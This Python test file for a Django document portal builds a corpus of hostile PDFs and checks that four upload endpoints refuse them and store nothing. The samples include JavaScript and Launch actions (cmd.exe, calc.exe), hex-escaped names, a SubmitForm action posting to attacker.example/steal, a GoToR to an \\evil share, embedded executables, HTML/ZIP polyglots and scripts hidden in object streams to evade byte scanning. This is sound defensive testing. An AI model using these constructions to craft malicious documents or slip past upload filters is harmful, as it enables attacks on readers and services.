"""A hostile PDF corpus sent through every door a file comes in by: the portal's documents page, the chunked
upload, the JSON API (base64 documents) and assessment evidence. Every one goes through the one upload pipeline
(`simpul.core.files`), which parses the PDF with pikepdf: each hostile file is refused at each door with a plain
message naming it, nothing is stored, and clean PDFs (from weasyprint, from pikepdf, written by hand) still pass.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import io
import json
import uuid
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from rest_framework.test import APIClient

from simpul.assessment.models import Evidence
from simpul.assessment.tests.factories import open_round
from simpul.cases.models import Case, Draft
from simpul.cases.tests.factories import VALID_ANSWERS, ktp_service, pdf_bytes
from simpul.clients.services import api_client_create, api_key_issue
from simpul.conftest import login

pytestmark = pytest.mark.django_db

ALERT = b"(app.alert\\('Simpul'\\))"


def _pikepdf(build: Callable[[Any], None], *, object_streams: bool = True) -> bytes:
    """A PDF written by qpdf: objects packed in compressed object streams, so nothing shows in the raw bytes."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    build(pdf)
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.preserve
    pdf.save(out, object_stream_mode=mode, compress_streams=True)
    return out.getvalue()


def _js_open_action(pdf: Any) -> None:
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    pdf.Root.OpenAction = action


def _js_name_tree(pdf: Any) -> None:
    script = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(2)")))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([
        pikepdf.String("go"), script])))


def _page_aa(pdf: Any) -> None:
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pdf.make_indirect(pikepdf.Dictionary(
        S=pikepdf.Name.URI, URI=pikepdf.String("https://attacker.example/track"))))


def _embedded_file(pdf: Any) -> None:
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", mime_type="application/octet-stream")


def _zip_after_eof() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return pdf_bytes() + out.getvalue()


SCRIPT_STREAM = b"<</Length %d>>stream\n" % (len(ALERT) - 1) + ALERT[:-1] + b"\nendstream"

HOSTILE: dict[str, Callable[[], bytes]] = {
    "JavaScript open action": lambda: pdf_bytes(catalog=b"/OpenAction<</S/JavaScript/JS" + ALERT + b">>"),
    "hex-escaped /J#61vaScript": lambda: pdf_bytes(catalog=b"/OpenAction<</S/J#61vaScript/J#53" + ALERT + b">>"),
    "hex-escaped /L#61unch": lambda: pdf_bytes(catalog=b"/OpenAction<</S/L#61unch/F(cmd.exe)>>"),
    "Launch on a link": lambda: pdf_bytes(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/Launch/F(calc.exe)>>>>", page=b"/Annots[4 0 R]"),
    "JavaScript in a compressed object stream": lambda: _pikepdf(_js_open_action),
    "JavaScript name tree in an object stream": lambda: _pikepdf(_js_name_tree),
    "JavaScript name tree, plain": lambda: pdf_bytes(
        b"<</S/JavaScript/JS" + ALERT + b">>", catalog=b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>"),
    "JavaScript in a stream": lambda: pdf_bytes(SCRIPT_STREAM, catalog=b"/OpenAction<</S/JavaScript/JS 4 0 R>>"),
    "URI open action": lambda: pdf_bytes(catalog=b"/OpenAction<</S/URI/URI(https://attacker.example/)>>"),
    "SubmitForm open action": lambda: pdf_bytes(
        catalog=b"/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://attacker.example/steal)>>>>"),
    "ImportData action": lambda: pdf_bytes(catalog=b"/OpenAction<</S/ImportData/F(data.fdf)>>"),
    "GoTo open action chaining to JavaScript": lambda: pdf_bytes(
        b"<</S/J#61vaScript/JS" + ALERT + b">>", catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>"),
    "GoToR to a remote file": lambda: pdf_bytes(catalog=b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>"),
    "additional actions on a page, URI": lambda: _pikepdf(_page_aa),
    "additional actions on a page, JavaScript": lambda: pdf_bytes(page=b"/AA<</O<</S/JavaScript/JS" + ALERT + b">>>>"),
    "keystroke script on a form field": lambda: pdf_bytes(
        b"<</FT/Tx/T(nik)/Rect[0 0 100 20]/Type/Annot/Subtype/Widget/AA<</K 5 0 R>>>>",
        b"<</S/JavaScript/JS" + ALERT + b">>",
        catalog=b"/AcroForm<</Fields[4 0 R]>>", page=b"/Annots[4 0 R]"),
    "XFA form": lambda: pdf_bytes(
        b"<</Length 40>>stream\n<xdp:xdp xmlns:xdp=\"http://ns.adobe.com\"/>\nendstream",
        catalog=b"/AcroForm<</Fields[]/XFA 4 0 R>>"),
    "embedded file": lambda: _pikepdf(_embedded_file, object_streams=False),
    "file attachment annotation": lambda: pdf_bytes(
        b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 20 20]/FS<</Type/Filespec/F(a.exe)>>>>", page=b"/Annots[4 0 R]"),
    "RichMedia annotation": lambda: pdf_bytes(
        b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 20 20]>>", page=b"/Annots[4 0 R]"),
    "Rendition action": lambda: pdf_bytes(catalog=b"/OpenAction<</S/Rendition/OP 0>>"),
    "HTML wrapped between %PDF and %%EOF": lambda: pdf_bytes(
        header=b"%PDF-1.4\n%<html><body><script>alert(document.cookie)</script></body></html>\n"),
    "HTML after %%EOF": lambda: pdf_bytes(tail=b"<html><script>alert(1)</script></html>\n"),
    "HTML before %PDF": lambda: b"<html><script>alert(1)</script></html>\n" + pdf_bytes(),
    "ZIP archive after %%EOF": _zip_after_eof,
    "JavaScript in a superseded revision": lambda: pdf_bytes(
        b"<</S/JavaScript/JS" + ALERT + b">>",
        tail=b"4 0 obj\n<</Type/Whatever>>\nendobj\ntrailer\n<</Size 5/Root 1 0 R>>\n%%EOF\n"),
}


@functools.cache
def _weasyprint_pdf() -> bytes:
    from weasyprint import HTML

    return HTML(string="<h1>Surat Keterangan</h1><p>Lihat <a href='https://mubakab.go.id/'>situs</a>.</p>").write_pdf()


def _pikepdf_clean() -> bytes:
    return _pikepdf(lambda pdf: None)


CLEAN: dict[str, Callable[[], bytes]] = {
    "from weasyprint, with a web link": _weasyprint_pdf,
    "from pikepdf, object streams": _pikepdf_clean,
    "written by hand": pdf_bytes,
    "opening on a page view": lambda: pdf_bytes(catalog=b"/OpenAction[3 0 R/Fit]"),
    "with a web link annotation": lambda: pdf_bytes(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 20 20]/A<</S/URI/URI(https://mubakab.go.id/)>>>>",
        page=b"/Annots[4 0 R]"),
}

REFUSAL_WORDS = ("PDF", "kk.pdf")


# -- the doors -----------------------------------------------------------------------------------------------------


@pytest.fixture
def version(personas):
    return ktp_service(personas.dukcapil)


def _portal(client: Any, version: Any, content: bytes) -> tuple[bool, str]:
    client.get(reverse("cases:apply_start", kwargs={"code": version.service.code}))
    draft = Draft.objects.latest("id")
    url = reverse("cases:apply_documents", kwargs={"code": version.service.code, "token": draft.token})
    response = client.post(url, {"kk": SimpleUploadedFile("kk.pdf", content), "save": "1",
                                 "idempotency_key": draft.idempotency_key})
    draft.refresh_from_db()
    return "kk" in (draft.documents or {}), response.content.decode()


def _chunked(client: Any, version: Any, content: bytes) -> tuple[bool, str]:
    client.get(reverse("cases:apply_start", kwargs={"code": version.service.code}))
    draft = Draft.objects.latest("id")
    digest = hashlib.sha256(content).hexdigest()
    up = client.post("/api/v1/uploads/", json.dumps({"filename": "kk.pdf", "size": len(content), "sha256": digest}),
                     content_type="application/json").json()
    for n in range(up["chunks"]):
        part = content[n * up["chunk_size"]:(n + 1) * up["chunk_size"]]
        client.generic("PUT", f"/api/v1/uploads/{up['id']}/chunks/{n}/", part,
                       content_type="application/octet-stream", HTTP_X_CHUNK_SHA256=hashlib.sha256(part).hexdigest())
    response = client.post(f"/api/v1/uploads/{up['id']}/finalize/",
                           json.dumps({"sha256": digest, "draft": draft.token, "document": "kk"}),
                           content_type="application/json")
    draft.refresh_from_db()
    return response.status_code == 200 and "kk" in (draft.documents or {}), response.content.decode()


def _api(client: Any, version: Any, content: bytes) -> tuple[bool, str]:
    row = api_client_create(name=f"Kios {uuid.uuid4().hex[:6]}", scopes=["cases:intake"])
    _key, secret = api_key_issue(client=row)
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {secret}")
    body = {"service": version.service.code, "answers": dict(VALID_ANSWERS),
            "documents": [{"code": "kk", "filename": "kk.pdf", "content_base64": base64.b64encode(content).decode()}]}
    response = api.post("/api/v1/cases/", body, format="json", HTTP_IDEMPOTENCY_KEY=str(uuid.uuid4()))
    return response.status_code == 201 and Case.objects.exists(), response.content.decode()


def _evidence(client: Any, version: Any, content: bytes, *, personas: Any) -> tuple[bool, str]:
    rnd = open_round(actor=personas.evaluator)
    login(client, personas.evaluator)
    response = client.post(reverse("assessment:round_evidence", kwargs={"pk": rnd.pk}),
                           {"kind": "document", "title": "Perbup", "file": SimpleUploadedFile("kk.pdf", content)})
    return Evidence.objects.filter(round=rnd).exists(), response.content.decode()


DOORS = {"portal documents page": _portal, "chunked upload": _chunked, "JSON API": _api,
         "assessment evidence": _evidence}


def _send(door: str, client: Any, version: Any, personas: Any, content: bytes) -> tuple[bool, str]:
    if door == "assessment evidence":
        return _evidence(client, version, content, personas=personas)
    return DOORS[door](client, version, content)


def _stored_files(settings: Any) -> list[Path]:
    media = Path(settings.MEDIA_ROOT)
    return [p for p in media.rglob("*") if p.is_file()] if media.exists() else []


@pytest.mark.parametrize("door", list(DOORS))
@pytest.mark.parametrize("label", list(HOSTILE))
def test_hostile_pdf_is_refused_at_every_door_and_nothing_is_stored(label, door, client, version, personas,
                                                                     settings, tmp_path):
    settings.VAR_DIR = tmp_path
    accepted, body = _send(door, client, version, personas, HOSTILE[label]())
    assert not accepted, f"{label} was accepted through the {door}"
    assert "kk.pdf" in body or "kk" in body, body[:500]  # the message names the file
    assert _stored_files(settings) == []


@pytest.mark.parametrize("door", list(DOORS))
@pytest.mark.parametrize("label", list(CLEAN))
def test_clean_pdf_is_accepted_at_every_door(label, door, client, version, personas, settings, tmp_path):
    settings.VAR_DIR = tmp_path
    accepted, body = _send(door, client, version, personas, CLEAN[label]())
    assert accepted, body[:1500]


def test_script_refusal_is_in_plain_indonesian(client, version):
    _accepted, body = _portal(client, version, HOSTILE["hex-escaped /J#61vaScript"]())
    assert "Berkas PDF kk.pdf berisi skrip atau tindakan otomatis dan tidak dapat diterima" in body


def test_corpus_has_at_least_twenty_hostile_pdfs_of_every_family():
    assert len(HOSTILE) >= 20
    raw = {label: make() for label, make in HOSTILE.items()}
    # the object-stream cases really hide their script from a byte search
    assert b"JavaScript" not in raw["JavaScript in a compressed object stream"]
    assert b"JavaScript" not in raw["JavaScript name tree in an object stream"]
